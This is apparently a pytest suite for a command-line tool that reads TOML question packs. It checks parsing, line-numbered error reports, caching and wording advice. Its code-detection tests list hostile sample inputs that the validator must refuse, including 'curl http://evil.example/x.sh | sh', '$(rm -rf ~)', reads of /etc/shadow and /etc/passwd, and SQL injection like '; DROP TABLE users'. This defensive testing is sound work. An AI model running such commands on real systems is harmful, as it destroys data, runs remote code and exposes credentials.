"""What must hold for packs: a broken one is named with file and line, and never stands in the way."""

from __future__ import annotations

import json
import os
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mistakes import places
from mistakes.cli.catalogue import in_language as said
from mistakes.plugins import installed
from mistakes.testing import Result, run
from mistakes.tomltext import dump
from mistakes_prompts import pack_cache
from mistakes_prompts.advice import advice, blame_in, is_closed
from mistakes_prompts.finding import Finding
from mistakes_prompts.lines import where
from mistakes_prompts.pack import Pack, in_language
from mistakes_prompts.reading import read_pack
from mistakes_prompts.shelf import files, read, shelf
from mistakes_prompts.texts import faults_of

GOOD = """\
# a comment
[pack]
id = "kitchen"
version = "1.0.0"
schema = 1
title = { en = "Kitchen", zh = "厨房" }

[[prompt]]
id = "kitchen.smell-1"
when = ["reflect"]
needs = { kind = ["mistake"], missing = ["conditions"] }
fills = "conditions"
q = "iq"
minutes = 2
cooldown_days = 7
tips_after = ["kitchen.tip-1"]
text = { en = "What could one have smelled?", zh = "本来能闻到什么？" }

[[prompt]]
id = "kitchen.taste-1"
when = ["weekly"]
text.en = "Who tastes before you salt?"
text.zh = "加盐之前谁来尝？"

[[tip]]
id = "kitchen.tip-1"
text = { en = "Put the timer where the hands are.", zh = "把计时器放在手边。" }
"""


def written(folder: Path, text: str, name: str = "kitchen.toml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8", newline="")
    return folder / name


def own(text: str, name: str = "kitchen.toml") -> Path:
    return written(places.config_folder() / "packs", text, name)


def findings(folder: Path, text: str) -> list[Finding]:
    return read_pack(written(folder, text))[1]


def test_a_pack_is_read_whole(tmp_path: Path) -> None:
    pack, wrong = read_pack(written(tmp_path, GOOD))

    assert [] == wrong
    assert isinstance(pack, Pack)
    smell, taste = pack.prompts
    assert ("kitchen", "conditions", "iq", 2, 7) == (
        smell.pack,
        smell.fills,
        smell.q,
        smell.minutes,
        smell.cooldown,
    )
    assert ["kitchen.tip-1"] == [tip.id for tip in smell.tips]
    assert (True, False) == (smell.is_about_an_entry, taste.is_about_an_entry)
    assert ("en", "zh") == pack.locales
    assert [] == list(advice(pack))


@pytest.mark.parametrize(
    ("old", "new", "line", "words"),
    [
        ('version = "1.0.0"', 'version = "1.0.0"\ncolour = "red"', 5, "unknown key 'colour'"),
        ('q = "iq"', 'q = "xq"', 13, "there is no q 'xq'"),
        ('fills = "conditions"', 'fills = "condition"', 12, "did you mean conditions"),
        ('missing = ["conditions"] }', 'mising = ["conditions"] }', 11, "unknown key 'mising'"),
        ('missing = ["conditions"] }', 'missing = ["causes"] }', 11, "missing does not know 'causes'"),
        ('needs = { kind = ["mistake"], missing = ["conditions"] }', "needs = []", 11, "has to be a table"),
        ("minutes = 2", "minutes = 2.5", 14, "whole number"),
        ("minutes = 2", "minutes = true", 14, "whole number"),
        ("cooldown_days = 7", "cooldown_days = -1", 15, "whole number"),
        ('["kitchen.tip-1"]', '["kitchen.tip-2"]', 16, "there is no tip 'kitchen.tip-2'"),
        ('id = "kitchen.taste-1"', 'id = "kitchen.smell-1"', 20, "used twice"),
        ('id = "kitchen.taste-1"', 'id = "Kitchen Taste"', 20, "has to be an id"),
        ('text.en = "Who tastes before you salt?"\n', "", 22, "has no English text"),
        ('["weekly"]', '["weekly"]\nkind = "homework"\nfills = "story"', 22, "is about no entry"),
        ('["weekly"]', '["weekly"]\nkind = "scenario"\nneeds = {}', 22, "is about no entry"),
        ('["weekly"]', "[]", 21, "on which occasions"),
        ('["weekly"]', '["sometimes"]', 21, "does not know 'sometimes'"),
        ('["weekly"]', '"weekly"', 21, "list of texts"),
        ("schema = 1", "schema = 2", 5, "has to be 1"),
        ("schema = 1", "schema = true", 5, "has to be 1"),
        ("[[tip]]", "[[tips]]", 25, "unknown key 'tips'"),
        ("[pack]", "[pack", 2, "is not TOML"),
        ("Who tastes before you salt?", "Who tastes? Who salts?", 22, "2 question marks"),
        ("Who tastes before you salt?", "Taste before you salt.", 22, "no question mark"),
        ("加盐之前谁来尝？", "谁来尝？谁加盐？", 22, "2 question marks"),
        ("Who tastes before you salt?", "Who tastes {entry}?", 22, "is no placeholder"),
        ("Who tastes before you salt?", "Who tastes {title.__class__}?", 22, "is no placeholder"),
        ("Who tastes before you salt?", "Who tastes {}?", 22, "is no placeholder"),
        ("Who tastes before you salt?", "Who tastes <b>first</b>?", 22, "looks like code"),
        ("Who tastes before you salt?", "Who runs $(rm -rf ~)?", 22, "looks like code"),
        ("Who tastes before you salt?", "Who runs `id`?", 22, "looks like code"),
        ("Who tastes before you salt?", "Who follows javascript:alert(1)?", 22, "looks like code"),
        ("Who tastes before you salt?", "W" + "o" * 200 + "?", 22, "202 characters"),
        ("Who tastes before you salt?", "Who\\u001b[31m tastes?", 22, "not printed"),
        ("Who tastes before you salt?", "Who\\u202e tastes?", 22, "not printed"),
    ],
)
def test_what_is_wrong_is_named_with_its_line(
    tmp_path: Path, old: str, new: str, line: int, words: str
) -> None:
    assert old in GOOD
    path = written(tmp_path, GOOD.replace(old, new))

    pack, wrong = read_pack(path)

    assert pack is None
    assert [str(path)] == list({one.path for one in wrong})
    assert [line] == [one.line for one in wrong if words in one.problem], wrong
    assert [] == [one.problem for one in wrong if said(one.problem, "zh") == one.problem]


@pytest.mark.parametrize(
    "text",
    [
        *("What does import os do here?", "Did os.system(1) run?", "Who calls subprocess.run([1])?"),
        *(
            "What is eval(x)?",
            "What is eval ('x')?",
            "Who ran rm -rf /?",
            "Why lambda x: x?",
            "Why lambda: 1?",
        ),
        *(
            "Did curl http://evil.example/x.sh | sh work?",
            "Who pipes it | sudo bash?",
            "Did x | python3 run?",
        ),
        *("What now; DROP TABLE users?", "What; delete from users where 1?", "What; select * from users?"),
        *("What; INSERT INTO t VALUES (1)?", "What; update t set a=1?", "Who reads ../../etc/passwd?"),
        *("Who reads /etc/shadow?", "Who opens ..\\windows?", "Did print() work?", "Did open('x') work?"),
        *("谁运行了os.system('x')？", "为什么 eval(x)？", "Who calls f(1, 2)?", "What is a.b(c)?"),
    ],
)
def test_a_text_that_is_code_and_no_question_to_a_person_is_refused(text: str) -> None:
    assert ["looks like code"] == [fault[:15] for fault in faults_of(text, question=True)]


@pytest.mark.parametrize(
    "text",
    [
        *("What (if anything) would you import?", "Which I/O, and/or which e.g. (a disk) was slow?"),
        *("Which step would you drop; select one: where from?", "What did the data: say, and you?"),
        *("Which person(s), mistake(s) or batch(es) was it?", "What was late; update the plan, or drop it?"),
        *(
            "What did the exec (your boss) say?",
            "Your OKR(目标与关键结果)是什么？",
            "你的KPI(指标)是什么？",
            "是什么（如果有）？",
        ),
        *("On the Lambda: what failed first?", "Who did it ... or who did not?", "What went wrong, etc.?"),
        *(
            "Which imports (from abroad) did you drop?",
            "Was it A | B, or a shell?",
            "Who holds the rm -- or the key?",
        ),
        *(
            "What evaluation (or grade) fits?",
            "Which SLA(service level agreement) broke?",
            "What is 1/2 of it?",
        ),
        *("Whom would you delete from the list; select whom?", "Did you stop at 10:30; create what then?"),
        *("JavaScript: which part of it failed?", "14:05 | Node was full: what then?"),
        *("Which table would you drop, if you had to?", "What does the import from China cost?"),
    ],
)
def test_a_question_in_ordinary_words_is_no_code(text: str) -> None:
    assert [] == [*faults_of(text, question=True)]


@pytest.mark.parametrize("part", ["a", "a.", "; select a ", "import ", "| ", "../", "x_"])
def test_a_text_of_any_length_is_looked_at_in_no_time(part: str) -> None:
    assert [*faults_of(part * (200_000 // len(part)), question=False)]


def test_a_field_that_there_is_not_is_told_in_a_short_line(tmp_path: Path) -> None:
    (wrong,) = findings(tmp_path, GOOD.replace('fills = "conditions"', 'fills = "nonsense"'))

    assert "there is no fills 'nonsense'; it takes actions, " in wrong.problem
    assert len(wrong.problem) < 160


def test_all_faults_are_told_at_once(tmp_path: Path) -> None:
    text = (
        GOOD.replace("minutes = 2", "minutes = 0")
        .replace('q = "iq"', 'q = "x"')
        .replace("[[tip]]", "[[tip]]\nx = 1")
    )

    assert [13, 14, 26] == [one.line for one in findings(tmp_path, text)]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "x",
        "[pack]",
        "pack = 1",
        "prompt = 1\n",
        "[[pack]]\n",
        "[prompt]\n",
        "\x00",
        "[pack]\nid = 1\n",
        "# only\n",
    ],
)
def test_a_file_that_is_no_pack_is_refused(tmp_path: Path, text: str) -> None:
    pack, wrong = read_pack(written(tmp_path, text))

    assert pack is None
    assert wrong


@settings(max_examples=60)
@given(st.text(max_size=60) | st.binary(max_size=60))
def test_no_file_makes_the_reader_stumble(
    tmp_path_factory: pytest.TempPathFactory, data: str | bytes
) -> None:
    path = tmp_path_factory.mktemp("pack") / "any.toml"
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass"))

    pack, wrong = read_pack(path)

    assert pack is None
    assert all(one.path == str(path) and one.line >= 1 and one.problem for one in wrong)


values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5) | st.floats(allow_nan=False),
    lambda inner: (
        st.lists(inner, max_size=2)
        | st.dictionaries(st.sampled_from(["en", "zh", "kind", "missing", "x"]), inner, max_size=2)
    ),
    max_leaves=5,
).filter(lambda value: value is not None)
KEYS = [
    "id",
    "kind",
    "when",
    "needs",
    "fills",
    "q",
    "minutes",
    "text",
    "text_distanced",
    "tips_after",
    "voice",
    "for",
]


@settings(max_examples=150)
@given(
    st.dictionaries(st.sampled_from([*KEYS, "version", "schema", "title"]), values, max_size=4),
    st.sampled_from(["pack", "prompt", "tip", "prompt 2"]),
)
def test_no_table_of_any_form_makes_the_reader_stumble(
    tmp_path_factory: pytest.TempPathFactory, changes: dict[str, object], where_to: str
) -> None:
    import tomli

    table = tomli.loads(GOOD)
    target = {"pack": table["pack"], "prompt": table["prompt"][0], "tip": table["tip"][0]}
    target["prompt 2"] = table["prompt"][1]
    target[where_to].update(changes)
    try:
        text = dump(table)
    except (TypeError, ValueError):
        return

    pack, wrong = read_pack(written(tmp_path_factory.mktemp("pack"), text))

    assert (pack is None) == bool(wrong)


def test_lines_are_found_around_texts_of_several_lines() -> None:
    text = '[pack]\nid = """\n[prompt]\nid = 3\n"""\n[[prompt]]\nid = 1\n[prompt.text]\nen = "x"\n[[prompt]]\n"id" = 2\n'

    found = where(text)

    assert (2, 7, 8, 11) == (
        found.at("pack", 0, "id"),
        found.at("prompt", 0, "id"),
        found.at("prompt", 0, "text"),
        found.at("prompt", 1, "id"),
    )
    assert (10, 1) == (found.at("prompt", 1, "q"), found.at("nothing", 0, "x"))


@pytest.mark.parametrize(
    ("language", "wanted"),
    [("zh-TW", "臺"), ("zh_TW", "臺"), ("zh-HK", "中"), ("zh", "中"), ("en", "E"), ("fr-CA", "E"), ("", "E")],
)
def test_a_missing_language_falls_back_to_its_base_and_then_to_english(language: str, wanted: str) -> None:
    assert wanted == in_language({"en": "E", "zh": "中", "zh-TW": "臺"}, language)


# The shelf


def test_the_packs_of_the_program_are_all_usable_and_need_no_advice() -> None:
    found = shelf(installed())

    assert () == found.findings
    assert 17 <= len(found.packs)
    assert all({"en", "zh"} <= set(pack.locales) for pack in found.packs)
    assert all(len(pack.prompts) >= 6 for pack in found.packs)
    assert [] == [str(one) for pack in found.packs for one in advice(pack)]


def test_a_broken_pack_of_the_user_is_one_warning_and_the_others_work() -> None:
    own(GOOD)
    own(GOOD.replace("kitchen", "garden").replace("minutes = 2", "minutes = 0\nx = 1"), "garden.toml")

    done = run("packs", "--json")

    assert 0 == done.status
    assert "kitchen" in [pack["id"] for pack in done.json["packs"]]
    assert "garden" not in [pack["id"] for pack in done.json["packs"]]
    assert 1 == done.err.count("warning: ")
    assert "garden.toml:14: minutes" in done.err
    assert "(and 1 more)" in done.err


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_command_that_a_warning_names_can_be_pasted_into_a_shell(
    language: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "Application Support"))
    path = own(GOOD.replace("minutes = 2", "minutes = 0"))
    run("config", "set", "language", language)

    told = run("packs").err.rstrip("\n").rpartition("mistakes ")[2]
    assert ["packs", "check", str(path)] == shlex.split(told)


def test_an_id_that_is_taken_is_refused_and_the_earlier_pack_stays() -> None:
    own(GOOD, "a.toml")
    own(GOOD.replace('id = "kitchen"', 'id = "other"'), "b.toml")
    own(GOOD.replace("kitchen", "trust"), "c.toml")

    found = shelf(installed())

    assert [("b.toml", "kitchen.smell-1"), ("c.toml", "'trust'")] == [
        (Path(one.path).name, word)
        for one, word in zip(found.findings, ("kitchen.smell-1", "'trust'"), strict=True)
        if word in one.problem
    ]
    assert "kitchen" in [pack.id for pack in found.packs]
    assert [9, 3] == [one.line for one in found.findings]


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such files")
def test_links_pipes_and_huge_files_are_refused_without_waiting(tmp_path: Path) -> None:
    folder = own(GOOD, "good.toml").parent
    os.mkfifo(folder / "pipe.toml")
    (folder / "link.toml").symlink_to(written(tmp_path, GOOD.replace("kitchen", "linked")))
    (folder / "huge.toml").write_text("#" * 300_000)
    (folder / "dir.toml").mkdir()

    found = read(files(installed()))

    assert ["dir.toml", "huge.toml", "link.toml", "pipe.toml"] == sorted(
        Path(one.path).name for one in found.findings
    )
    assert "kitchen" in [pack.id for pack in found.packs]


def test_what_is_kept_of_the_packs_is_what_was_read() -> None:
    own(GOOD)
    own("x", "broken.toml")
    chosen = files(installed())

    fresh = read(chosen)
    first, second = shelf(installed()), shelf(installed())

    assert pack_cache.kept(chosen) is not None
    assert fresh == first == second


def test_a_change_of_a_pack_is_noticed() -> None:
    path = own(GOOD)
    assert "Kitchen" in [pack.title["en"] for pack in shelf(installed()).packs]

    path.write_text(GOOD.replace('"Kitchen"', '"The Kitchen"'), encoding="utf-8")
    assert "The Kitchen" in [pack.title["en"] for pack in shelf(installed()).packs]
    path.unlink()
    assert "kitchen" not in [pack.id for pack in shelf(installed()).packs]


@pytest.mark.parametrize("text", ["", "{", "[]", "{}", '{"key": 1, "packs": 3}', "\x00", "[" * 5000])
def test_a_damaged_cache_does_no_harm(text: str) -> None:
    wanted = shelf(installed())
    place = places.cache_folder() / "packs.json"
    assert place.exists()

    place.write_text(text)

    assert wanted == shelf(installed())
    assert wanted == shelf(installed())


def test_rows_of_another_form_in_the_cache_do_no_harm() -> None:
    wanted = shelf(installed())
    place = places.cache_folder() / "packs.json"
    stored = json.loads(place.read_text(encoding="utf-8"))
    stored["packs"][0]["prompts"][0] = [1, 2]
    place.write_text(json.dumps(stored))

    assert wanted == shelf(installed())


# The command


def check(path: Path) -> Result:
    return run("packs", "check", str(path))


def test_packs_shows_what_there_is() -> None:
    done = run("packs")

    assert 0 == done.status
    assert "trust\t" in done.out
    assert "prompts" == done.out.splitlines()[0].split("\t")[-1]


def test_packs_shows_the_questions_of_one_pack_in_the_users_language() -> None:
    own(GOOD)
    run("config", "set", "language", "zh")

    assert ["kitchen.smell-1\t本来能闻到什么？", "kitchen.taste-1\t加盐之前谁来尝？"] == run(
        "packs", "kitchen"
    ).out.splitlines()
    assert "本来能闻到什么？" == run("packs", "kitchen", "--json").json["questions"][0]["text"]
    assert 1 == run("packs", "nothing").status
    assert 2 == run("packs", "kitchen", "trust").status


def test_a_good_file_passes_the_check(tmp_path: Path) -> None:
    done = check(written(tmp_path, GOOD))

    assert (0, "Nothing to mend.\n") == (done.status, done.out)
    assert [] == run("packs", "check", str(tmp_path / "kitchen.toml"), "--json").json["findings"]


def test_a_check_names_file_line_and_problem_and_exits_with_one(tmp_path: Path) -> None:
    path = written(tmp_path, GOOD.replace("minutes = 2", "minutes = 0"))

    done = check(path)

    assert 1 == done.status
    assert f"{path}:14: minutes has to be a whole number from 1 to 60\n" == done.out
    shown = run("packs", "check", str(path), "--json")
    assert (1, 14, True) == (
        shown.status,
        shown.json["findings"][0]["line"],
        shown.json["findings"][0]["refused"],
    )


def test_a_file_that_is_not_there_is_a_finding(tmp_path: Path) -> None:
    done = check(tmp_path / "no.toml")

    assert (1, True) == (done.status, "is not there" in done.out)


def test_a_check_without_a_file_looks_at_all_packs() -> None:
    assert 0 == run("packs", "check").status
    own(GOOD.replace("salt?", "salt it, you careless cook?"))
    assert (1, True) == ((done := run("packs", "check")).status, "blames" in done.out)


def test_a_file_that_takes_the_id_of_an_installed_pack_is_found(tmp_path: Path) -> None:
    done = check(written(tmp_path, GOOD.replace("kitchen", "trust")))

    assert (1, True) == (done.status, "is there already" in done.out)


def test_the_users_own_file_is_no_duplicate_of_itself() -> None:
    assert 0 == check(own(GOOD)).status


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("Who tastes before you salt?", "Why did you salt it again?", "blames"),
        ("Who tastes before you salt?", "What should you have tasted?", None),
        ("Who tastes before you salt?", "What should have been tasted?", "blames"),
        ("加盐之前谁来尝？", "怎么这么粗心？", "blames"),
        ("Who tastes before you salt?", "Was it too salty?", "yes or a no"),
        ("加盐之前谁来尝？", "你尝过了吗？", "yes or a no"),
        ("Put the timer where the hands are.", "Be more careful next time.", "nothing that anybody could do"),
        ("text.zh = ", "text.de = ", "has no text in"),
        ('id = "kitchen.taste-1"', 'id = "taste-1"', "begins best"),
        ('tips_after = ["kitchen.tip-1"]\n', "", "after no prompt"),
        ('text.en = "Who', 'voice = ["distanced"]\ntext.en = "Who', "only one of"),
    ],
)
def test_a_check_advises_and_the_pack_works_all_the_same(
    tmp_path: Path, old: str, new: str, words: str | None
) -> None:
    assert old in GOOD
    path = written(tmp_path, GOOD.replace(old, new))

    done = check(path)

    assert read_pack(path)[0] is not None
    assert (1 if words else 0, True) == (done.status, (words or "") in done.out)


@pytest.mark.parametrize(
    "text",
    [
        "Was it worth it?",
        "A case is told: do you agree?",
        "Did they know?",
        "Is there a plan?",
        "Haven't you seen it?",
        "你知道吗？",
        "是否值得？",
        "有没有人看到？",
    ],
)
def test_closed_questions_are_found(text: str) -> None:
    assert is_closed(text)


@pytest.mark.parametrize(
    "text",
    [
        "What happened?",
        "Was it luck or skill?",
        "Do you know who saw it?",
        "It was late: who saw it?",
        "是运气还是本事，有没有分清？",
        "谁看到了？",
        "Island life: what is it like?",
    ],
)
def test_open_questions_are_not_called_closed(text: str) -> None:
    assert not is_closed(text)


@pytest.mark.parametrize(
    "text", ["It was your fault", "Human Error again", "You failed to look", "都怪你", "本该先问"]
)
def test_words_that_blame_are_found(text: str) -> None:
    assert blame_in(text)


@pytest.mark.parametrize(
    "text", ["What made it look safe?", "奇怪的事", "难怪", "The default", "What would you have needed?"]
)
def test_words_that_blame_nobody_are_not_found(text: str) -> None:
    assert not blame_in(text)
